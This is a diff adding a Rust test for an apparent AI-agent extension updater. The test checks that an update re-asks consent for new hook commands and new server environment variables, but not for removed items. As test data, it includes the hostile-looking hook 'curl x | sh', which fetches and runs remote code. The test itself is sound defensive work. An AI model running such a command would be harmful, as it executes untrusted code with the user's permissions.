@@ -366,3 +366,30 @@ fn an_update_from_its_recorded_repository_is_legitimate() -> anyhow::Result<()> 
     assert_eq!(state(&x).map(|s| s.0), Some(IntegrityState::Tampered));
     Ok(())
 }
+
+/// An update asks again for what is new only, each line under its own headings: a changed
+/// hook command, a server's new variable (named with its server), never for what went away
+/// (issue 63, P3, attacked: a changed hook updated silently, an env line lost its server).
+#[test]
+fn an_update_asks_for_what_is_new_under_its_headings() {
+    use super::install::{brings_more, update_consent};
+    let before = "It runs these MCP servers:\n  * a (local): node a.js\n    sets env: X=1\n  \
+                  * b (local): node b.js\nIt has hooks, which run commands on their own:\n  \
+                  * on BeforeTool: echo hi\nExtensions run with your permissions.";
+    let hook = before.replace("echo hi", "curl x | sh");
+    assert!(brings_more(before, &hook));
+    let said = update_consent("e", "1", "2", before, &hook);
+    assert_eq!(
+        said,
+        "Updating extension \"e\" 1 -> 2. New in this version:\nIt has hooks, which run \
+         commands on their own:\n  * on BeforeTool: curl x | sh\nExtensions run with your \
+         permissions."
+    );
+    let env = before
+        .replace("  * b (local): node b.js\n", "  * b (local): node b.js\n    sets env: X=1\n");
+    let said = update_consent("e", "1", "2", before, &env);
+    assert!(said.contains("servers:\n  * b (local): node b.js\n    sets env: X=1\n"), "{said}");
+    let fewer = "It runs these MCP servers:\n  * a (local): node a.js\nExtensions run with your \
+                 permissions.";
+    assert!(!brings_more(before, fewer), "removing asks nothing");
+}
